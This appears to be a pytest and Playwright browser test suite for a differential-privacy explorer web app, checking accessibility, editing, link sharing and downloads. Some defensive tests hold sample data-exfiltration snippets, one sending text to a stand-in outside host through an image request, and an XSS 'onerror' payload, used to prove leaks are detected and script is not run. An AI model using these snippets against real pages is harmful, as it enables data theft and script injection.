"""The explorer as its user meets it."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from fractions import Fraction
from itertools import pairwise
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

import deltachain as dc
from tests.browser.driver import CONTRAST, Seen, watched
from tests.browser.recorder import Sent, recording
from tests.browser.test_report import HIT, hostile

pytest.importorskip("starlette")
pytest.importorskip("uvicorn")

from tests.satellites.explore.serving import Served, explorer

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def server() -> Iterator[Served]:
    with explorer() as served:
        yield served


AXE = (Path(__file__).parent / "axe" / "axe.min.js").read_text("utf-8")


def violations(page: Any) -> list[str]:
    """What axe-core finds wrong with a page, its frames left out."""
    page.evaluate(AXE)
    found = page.evaluate("axe.run({ exclude: [['iframe']] }, { iframes: false })")["violations"]
    return [f"{rule['id']}: {node['html'][:120]}" for rule in found for node in rule["nodes"]]


def settled(page: Any) -> None:
    """Wait for the answer to what is asked now."""
    page.wait_for_function(
        "() => document.getElementById('stop').disabled && !document.getElementById('result-head').hidden"
        " && document.getElementById('stale').hidden",
        timeout=60_000,
    )


def written(page: Any) -> str:
    """What is in the editor."""
    return "\n".join(line.strip("\n") for line in page.locator("#text .cm-line").all_text_contents())


def write(page: Any, text: str) -> None:
    """Put a text into the editor, as one who pastes it does."""
    page.locator("#text .cm-content").focus()
    page.keyboard.press("Control+a")
    page.keyboard.press("Delete")
    page.keyboard.insert_text(text)


def computed(page: Any) -> str:
    """Ask, and wait for the headline of the answer."""
    page.locator("#run").click()
    settled(page)
    return str(page.locator("#result-head").inner_text())


def test_an_example_is_chosen_and_computed(page: Any, seen: Seen, server: Served) -> None:
    page.goto(server.address)
    page.locator("#example").select_option("coin")
    page.locator("#delta").fill("0.01")
    assert computed(page) == "✓ Private"
    page.locator("#epsilon").fill("0.1")
    assert computed(page) == "✗ Not private"
    report = page.frame_locator("#report")
    report.locator("#next").click()
    assert report.locator("#step-odds").inner_text() != "1 : 1"
    assert seen.complaints == []
    assert all(url.startswith(f"http://127.0.0.1:{server.port}/") for url in seen.requests)


def test_it_opens_on_an_answer_and_follows_what_is_typed(page: Any, seen: Seen, server: Served) -> None:
    page.goto(server.address)
    settled(page)
    first = page.locator("#answers").inner_text()
    assert first.startswith("survey,")
    page.locator("#example").select_option("survey")
    settled(page)
    page.locator("#epsilon").fill("0.5")
    assert "earlier question" in page.locator("#stale").inner_text()
    assert page.evaluate("document.getElementById('result').classList.contains('stale')")
    settled(page)
    assert "ε = 0.5" in page.locator("#answers").inner_text()
    page.locator("#epsilon-slider").fill("2")
    assert page.locator("#epsilon").input_value() == "2"
    settled(page)
    page.locator("[aria-label='p, slider']").fill("0.6")
    assert page.locator("[data-key=p]").input_value() == "0.6"
    settled(page)
    assert "p=0.6" in page.locator("#answers").inner_text()
    assert seen.complaints == []


def test_a_small_model_answers_within_a_moment(page: Any, server: Served) -> None:
    page.goto(server.address)
    page.locator("#example").select_option("coin")
    settled(page)
    page.locator("#live").uncheck()
    took = []
    for epsilon in ("0.37", "0.38", "0.39", "0.41", "0.42"):
        page.locator("#epsilon").fill(epsilon)
        took.append(
            page.evaluate(
                """(epsilon) => new Promise((done) => {
                  const begin = performance.now();
                  const look = () => document.getElementById('answers').textContent.includes(epsilon)
                    ? done(performance.now() - begin) : setTimeout(look, 5);
                  document.getElementById('run').click();
                  look();
                })""",
                epsilon,
            )
        )
        settled(page)
    # Far above what bench/explorer.py measures: a test may run beside others.
    assert min(took) < 600, f"{took} ms"


def test_the_status_tells_the_answer_and_a_screen_reader_hears_it_once(page: Any, server: Served) -> None:
    page.goto(server.address)
    page.locator("#example").select_option("coin")
    page.locator("#delta").fill("0.01")
    settled(page)
    found = dc.check(dc.examples.coin(), epsilon=1, delta="0.01")
    assert (found.verdict, found.upper) == ("private", 0)
    assert page.locator("#status").inner_text() == "✓ Private: δ = 0 at ε = 1"
    assert page.locator("#spoken").text_content() == "✓ Private: δ = 0 at ε = 1"
    assert page.locator("#status").get_attribute("role") is None, "progress is not read out"
    page.locator("#live").uncheck()
    page.locator("#epsilon").fill("0.1")
    assert "Private" not in page.locator("#status").inner_text(), "that was about another ε"


def test_progress_shows_bounds_of_what_was_asked(page: Any, server: Served) -> None:
    page.goto(server.address)
    settled(page)
    page.locator("#live").uncheck()
    page.locator("#example").select_option("random")
    page.locator("[data-key=n]").fill("12")
    page.locator("[data-key=seed]").fill("3")
    page.locator("#max_nodes").fill("5000")
    page.locator("#epsilon").fill("0.01")
    page.evaluate(
        """() => {
          window.lines = [];
          const note = () => window.lines.push(document.getElementById('status').textContent);
          new MutationObserver(note).observe(document.getElementById('status'), { childList: true });
        }"""
    )
    page.locator("#run").click()
    settled(page)
    shown = [re.match(r"([\d.]+) ≤ δ ≤ ([\d.]+) at ε = 0.01(; .+)?$", line) for line in page.evaluate("window.lines")]
    intervals = [(Fraction(match[1]), Fraction(match[2])) for match in shown if match]
    assert len(set(intervals)) >= 2
    for (low, high), (lower, upper) in pairwise(intervals):
        assert low <= lower <= upper <= high
    assert any(match and "now the curve, point" in (match[3] or "") for match in shown), "it stays in view"
    assert shown[-1] is not None
    assert shown[-1][3] is None, "the last one is the answer"
    assert shown[-1][0].split(" at ")[0] in page.frame_locator("#report").locator("#found").inner_text()


def test_a_report_stays_where_its_reader_was(page: Any, server: Served) -> None:
    page.goto(server.address)
    settled(page)
    head = page.frame_locator("#report").locator("#curve-title-head")
    head.evaluate("head => head.scrollIntoView()")
    top = head.bounding_box()["y"]
    page.wait_for_timeout(200)  # a message from the frame
    page.locator("#epsilon").fill("0.7")
    settled(page)
    page.frame_locator("#report").locator("#slider-epsilon", has_text="0.7").wait_for()
    page.wait_for_timeout(200)
    assert page.frame_locator("#report").locator("#curve-title-head").bounding_box()["y"] == pytest.approx(top, abs=40)


def test_a_model_is_edited_and_its_errors_are_in_the_line(page: Any, server: Served) -> None:
    page.goto(server.address)
    page.locator("#example").select_option("coin")
    page.locator("#edit").click()
    page.locator("#text .cm-line").first.wait_for()
    page.wait_for_function(
        "() => document.querySelector('#text .cm-content').textContent.includes('deltachain.chain/1')"
    )
    text = written(page)
    assert json.loads(text)["format"] == "deltachain.chain/1"
    write(page, text.rstrip()[:-1])
    page.locator("#errors li").first.wait_for()
    assert page.locator("#text .cm-lint-marker-error").count() == 1
    assert page.locator("#errors").bounding_box()["y"] < page.locator("fieldset").first.bounding_box()["y"]
    page.locator("#errors button").first.click()
    write(page, text)
    page.wait_for_function("() => !document.querySelector('#errors li')")
    assert computed(page) in ("Bounds on δ", "✓ Private")


def test_a_model_to_start_from_is_in_the_box(page: Any, seen: Seen, server: Served) -> None:
    page.goto(server.address)
    page.locator("input[value=model]").check()
    settled(page)
    assert json.loads(written(page))["format"] == "deltachain.chain/1"
    assert page.locator("#errors li").count() == 0
    assert seen.complaints == []


def test_an_example_is_edited_as_a_program_with_the_same_answer(page: Any, seen: Seen, server: Served) -> None:
    page.goto(server.address)
    page.locator("#example").select_option("random")
    assert not page.locator("#edit-program").is_visible(), "it is not written as a program"
    page.locator("#example").select_option("survey")
    page.locator("[data-key=p]").fill("2/3")
    settled(page)
    found = page.locator("#status").inner_text()
    assert "δ" in found
    page.locator("#edit-program").click()
    settled(page)
    assert "def survey(truth" in written(page)
    assert page.locator("#constants").input_value() == "p=2/3"
    assert page.locator("#answers").inner_text().startswith("the program,")
    assert page.locator("#status").inner_text() == found
    assert seen.complaints == []


RINGED = """() => [document.activeElement, document.activeElement.closest(".cm-editor")]
  .some((element) => element && getComputedStyle(element).outlineStyle === "solid")"""
"""Whether one sees what has the focus; the editor says it a moment later."""


def test_the_keyboard_reaches_everything_and_leaves_the_editor(page: Any, server: Served) -> None:
    page.goto(server.address)
    page.locator("input[value=program]").check()
    settled(page)
    page.locator("#run").focus()
    reached = []
    for _ in range(30):
        page.keyboard.press("Tab")
        where = page.evaluate("document.activeElement.id || document.activeElement.className.split(' ')[0]")
        reached.append(where)
        if where == "cm-content":
            page.keyboard.press("Escape")  # as the note above the editor says
        page.wait_for_function(RINGED, timeout=5_000)
        if where == "keep":
            break
    wanted = ["live", "cm-content", "name", "constants", "secrets", "epsilon", "epsilon-slider", "delta", "pair"]
    wanted += ["max_nodes", "link", "save-report", "save-certificate", "save-model", "save-csv", "keep"]
    assert [where for where in reached if where in wanted] == wanted
    page.keyboard.press("Tab")  # into the report, which is a process of its own
    page.wait_for_function("() => document.activeElement.id === 'report'", timeout=5_000)
    page.locator("#live").uncheck()
    page.locator("#text .cm-content").focus()
    page.keyboard.press("Control+End")
    page.keyboard.insert_text("# more")
    assert page.locator("#stale").is_visible()
    page.keyboard.press("Control+Enter")
    settled(page)
    assert written(page).endswith("# more"), "the key computes and writes nothing"


def test_a_program_to_start_from_is_in_the_box(page: Any, seen: Seen, server: Served) -> None:
    page.goto(server.address)
    page.locator("input[value=program]").check()
    assert "@program" in written(page)
    settled(page)
    assert page.frame_locator("#report").locator("h1").inner_text() == "protocol.py:survey"
    write(page, "@program\ndef f(x):\n    import os\n")
    page.locator("#errors button").first.wait_for()
    assert page.locator("#errors button").first.inner_text() == "line 3"
    numbers = page.locator("#text .cm-lineNumbers .cm-gutterElement").all_inner_texts()
    assert "3" in numbers, "the line has a visible number"
    assert seen.complaints == []


SEVERAL = (
    """from deltachain import announce, flip, program


@program
def first(x):
    announce(x)

"""
    + "# a long way down\n" * 80
    + """

@program
def telemetry(x, p="3/4"):
    announce((x == 1) == flip(p))
"""
)


def test_a_program_without_secrets_is_asked_for_them(page: Any, seen: Seen, tmp_path: Path) -> None:
    """It opened with a red error; and on the first line of the text, wherever the program was."""
    (tmp_path / "mech.py").write_text(SEVERAL, "utf-8")
    with explorer(f"{tmp_path / 'mech.py'}:telemetry") as served:
        page.goto(served.address)
        page.wait_for_function("() => document.getElementById('status').textContent.includes('two secrets')")
        assert page.locator("#errors li").count() == 0
        assert page.locator("#text .cm-line", has_text="def telemetry").is_visible(), "scrolled to"
        assert page.evaluate("document.activeElement === document.body"), "the keyboard is where it was"
        page.locator("#run").click()
        assert page.locator("#secrets").evaluate("box => box === document.activeElement")
        page.locator("#secrets").fill("x=0\nx=1")
        settled(page)
        assert page.frame_locator("#report").locator("h1").inner_text() == "protocol.py:telemetry"
    assert seen.complaints == []


def test_secrets_are_given_on_the_command_line(page: Any, tmp_path: Path) -> None:
    (tmp_path / "mech.py").write_text(SEVERAL, "utf-8")
    secrets = ("--secret", "x=0", "--secret", "x=1")
    with explorer(f"{tmp_path / 'mech.py'}:telemetry,p=2/3", *secrets) as served:
        page.goto(served.address)
        settled(page)
        assert page.locator("#secrets").input_value() == "x=0\nx=1"
        assert page.locator("#constants").input_value() == "p=2/3"
        assert page.locator("#errors li").count() == 0


def test_an_error_is_gone_while_the_next_answer_is_computed(page: Any, server: Served) -> None:
    page.goto(server.address)
    settled(page)
    page.locator("#epsilon").fill("nonsense")
    page.locator("#errors li").first.wait_for()
    # The question is held back: what is seen meanwhile?
    held: list[Any] = []

    def hold(route: Any) -> None:
        held.append(route)

    page.route("**/run?*", hold)
    page.locator("#epsilon").fill("1/2")
    page.wait_for_function("() => document.getElementById('status').textContent === 'computing'")
    assert page.locator("#errors li").count() == 0
    for route in held:
        route.continue_()
    page.unroute("**/run?*")
    settled(page)


def test_two_answers_stand_side_by_side(page: Any, server: Served) -> None:
    page.set_viewport_size({"width": 1400, "height": 900})
    page.goto(server.address)
    page.locator("#example").select_option("survey")
    settled(page)
    page.locator("#keep").click()
    page.locator("#epsilon").fill("2")
    settled(page)
    boxes = [page.locator(f"#{name}").bounding_box() for name in ("kept", "report")]
    assert boxes[0]["x"] + boxes[0]["width"] <= boxes[1]["x"]
    assert "ε = 1" in page.locator("#kept-answers").inner_text()
    assert (
        page.frame_locator("#kept").locator("#found").inner_text()
        != page.frame_locator("#report").locator("#found").inner_text()
    )
    page.locator("#drop").click()
    assert not page.locator("#kept").is_visible()


MARK = "zq7531mark"
MARKED = f"""from deltachain import announce, flip, program


@program
def respond(truth):
    # {MARK}
    announce("yes" if (truth == 1) == flip("2/3") else "no")
"""


def leaks(requests: list[Sent], fragment: str, port: int) -> list[str]:
    """Requests that tell a link's fragment, or the model elsewhere than in the body of a question to the server."""
    found = []
    for sent in requests:
        told = [text for text in (fragment, fragment[:64], MARK) if sent.outside_of_body(text)]
        told += [text for text in (fragment, fragment[:64]) if text in sent.body]
        question = sent.method == "POST" and sent.address.startswith(f"http://127.0.0.1:{port}/run?")
        if told or (MARK in sent.body and not question):
            found.append(f"{sent.method} {sent.address}")
    return found


def test_a_link_restores_model_and_question_and_is_never_sent(browser: Any, server: Served) -> None:
    with recording() as recorder:
        context = browser.new_context(proxy=recorder.proxy)
        page = context.new_page()
        page.goto(server.address)
        page.locator("input[value=program]").check()
        write(page, MARKED)
        page.locator("#epsilon").fill("0.25")
        settled(page)
        page.locator("#link").click()
        page.wait_for_function("() => location.hash.length > 100")
        link = page.url
        page.reload()  # a Referer, if there were one, would be of a page with a fragment
        settled(page)
        before = len(recorder.requests)
        other = context.new_page()
        other.goto(link)
        settled(other)
        assert other.locator("#epsilon").input_value() == "0.25"
        assert written(other) == MARKED
        context.close()
        fragment = link.partition("#")[2]
        assert 100 < len(fragment) <= 65536
        # Chromium may ask its maker for something (CONNECT); what is said below is about that, too.
        paths = {
            urlsplit(sent.address).path.split("/", 2)[1] for sent in recorder.requests[before:] if "//" in sent.address
        }
        assert {"", "run", "events", "report"} <= paths, "what the link does is recorded"
        asked = [sent for sent in recorder.requests if MARK in sent.body]
        assert asked, "bodies are recorded"
        assert leaks(recorder.requests, fragment, server.port) == []


@pytest.mark.parametrize(
    "leak",
    [
        "(text) => fetch(`/?${text}`)",
        "(text) => fetch('/', { headers: { 'X-Link': text } })",
        "(text) => fetch('/other', { method: 'POST', body: text })",
        "(text) => { navigator.sendBeacon('/beacon', text); }",
        "(text) => { new Image().src = `http://elsewhere.invalid/${text}`; }",
    ],
    ids=["query", "header", "body", "beacon", "elsewhere"],
)
def test_a_link_that_was_sent_would_be_noticed(browser: Any, server: Served, leak: str) -> None:
    fragment = "eyJhY3Rpb24iOiJyZXBvcnQi" * 10
    with recording() as recorder:
        context = browser.new_context(proxy=recorder.proxy, bypass_csp=True)
        page = context.new_page()
        page.goto(server.address)
        settled(page)
        assert leaks(recorder.requests, fragment, server.port) == []
        page.evaluate(leak, fragment)
        page.wait_for_timeout(500)
        context.close()
        assert len(leaks(recorder.requests, fragment, server.port)) == 1


@pytest.mark.parametrize("fragment", ["not-a-link", "e30", "bnVsbA", "A" * 70_000], ids=["text", "{}", "null", "long"])
def test_a_link_that_cannot_be_read_is_said_to_be_so(page: Any, seen: Seen, server: Served, fragment: str) -> None:
    page.goto(f"{server.address}#{fragment}")
    settled(page)
    assert "could not be read" in page.locator("#link-note").inner_text()
    assert page.locator("#answers").inner_text().startswith("survey,"), "the page works as without it"
    assert seen.complaints == []


def test_a_link_is_opened_where_the_explorer_is_open(page: Any, seen: Seen, server: Served) -> None:
    page.goto(server.address)
    page.locator("#example").select_option("coin")
    page.locator("#epsilon").fill("0.125")
    page.locator("#delta").fill("0.01")
    settled(page)
    page.locator("#link").click()
    page.wait_for_function("() => location.hash.length > 100")
    link = page.url
    page.goto(server.address)
    page.locator("#example").select_option("mix")
    settled(page)
    page.goto(link)  # the fragment alone is new: the page is not loaded again
    settled(page)
    assert page.locator("#answers").inner_text() == "coin,p=2/5, ε = 0.125, δ ≤ 0.01"
    assert seen.complaints == []


def test_a_link_has_at_most_64_kilobytes(page: Any, server: Served) -> None:
    page.goto(server.address)
    page.locator("#live").uncheck()
    page.locator("input[value=model]").check()
    for length, fits in ((48_000, True), (50_000, False)):
        write(page, "x" * length)  # a fragment has four letters for each three of the text
        page.evaluate("history.replaceState(null, '', location.pathname + location.search)")
        page.locator("#link").click()
        said = re.compile("copied|address bar" if fits else "too long")
        page.locator("#link-note", has_text=said).wait_for(timeout=5_000)
        assert (60_000 < page.evaluate("location.hash.length") <= 65_537) if fits else "#" not in page.url


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing(page: Any, server: Served, scheme: str) -> None:
    page.emulate_media(color_scheme=scheme)
    page.goto(server.address)
    settled(page)
    assert violations(page) == []
    page.locator("input[value=program]").check()
    settled(page)
    page.locator("#keep").click()
    assert violations(page) == []
    write(page, "@program\ndef f(x):\n    import os\n")
    page.locator("#errors button").first.wait_for()
    assert violations(page) == []


def test_a_long_computation_is_stopped(page: Any, server: Served) -> None:
    page.goto(server.address)
    page.locator("#example").select_option("random")
    page.locator("[data-key=n]").fill("52")
    page.locator("[data-key=seed]").fill("1")
    page.locator("#live").uncheck()
    page.locator("#max_nodes").fill("10000000")
    settled_before = page.locator("#answers").inner_text()
    page.locator("#run").click()
    page.locator("#status", has_text="beliefs expanded").wait_for(timeout=30_000)
    page.locator("#stop").click()
    settled(page)
    assert page.locator("#answers").inner_text() != settled_before
    assert "stopped early" in page.locator("#result-head").inner_text()
    assert "≤ δ ≤" in page.locator("#status").inner_text()
    assert page.locator("#status").inner_text().endswith("; stopped")


def test_what_was_computed_is_saved(page: Any, server: Served, tmp_path: Path) -> None:
    page.goto(server.address)
    page.locator("#example").select_option("survey")
    computed(page)
    for link, name in (
        ("save-report", "report.html"),
        ("save-certificate", "certificate.json"),
        ("save-csv", "profile.csv"),
        ("save-model", "model.json"),
    ):
        with page.expect_download() as coming:
            page.locator(f"#{link}").click()
        assert coming.value.suggested_filename == name
        coming.value.save_as(tmp_path / name)
    assert dc.load(tmp_path / "model.json") == dc.examples.survey()
    assert dc.verify(dc.examples.survey(), json.loads((tmp_path / "certificate.json").read_text("utf-8")))


def test_a_hostile_model_runs_nothing(page: Any, seen: Seen, server: Served, tmp_path: Path) -> None:
    dc.save(hostile(), tmp_path / "hostile.json")
    page.goto(server.address)
    page.locator("input[value=model]").check()
    write(page, (tmp_path / "hostile.json").read_text("utf-8"))
    computed(page)
    page.locator("#pair").fill("<img/src=x/onerror=alert(1)> b")
    page.locator("#run").click()
    page.locator("#errors li").first.wait_for()
    assert "onerror" in page.locator("#errors").inner_text()
    assert page.locator("#errors img").count() == 0
    assert seen.complaints == []
    frames = [frame for frame in page.frames if "/report/" in frame.url]
    assert len(frames) == 1
    assert HIT[:24] in frames[0].locator("body").inner_text(), "it was shown"
    assert all(frame.evaluate("window.hit === undefined") for frame in page.frames)


def test_two_tabs_ask_at_once_and_one_is_closed(browser: Any, server: Served) -> None:
    context = browser.new_context()
    first, second, third = (context.new_page() for _ in range(3))
    seen = [watched(tab) for tab in (first, second)]
    for tab, example in ((third, "crowds"), (first, "survey"), (second, "mix")):
        tab.goto(server.address)
        tab.locator("#example").select_option(example)
        tab.locator("#run").click()
    third.close()
    for tab, example in ((first, "survey"), (second, "mix")):
        settled(tab)
        assert tab.locator("#answers").inner_text().startswith(f"{example},")
        assert tab.locator("#errors li").count() == 0
    assert [record.complaints for record in seen] == [[], []]
    context.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_page_can_be_read(page: Any, server: Served, scheme: str) -> None:
    page.emulate_media(color_scheme=scheme)
    page.set_viewport_size({"width": 360, "height": 740})
    page.goto(server.address)
    page.locator("input[value=program]").check()
    settled(page)
    write(page, "@program\ndef f(x):\n    import os\n")
    page.locator("#errors button").first.wait_for()
    page.evaluate(
        "document.getElementById('result').classList.remove('stale')"
    )  # what is dimmed on purpose is no text to read
    assert page.evaluate(CONTRAST) == []
    assert page.evaluate("document.documentElement.scrollWidth") <= 360
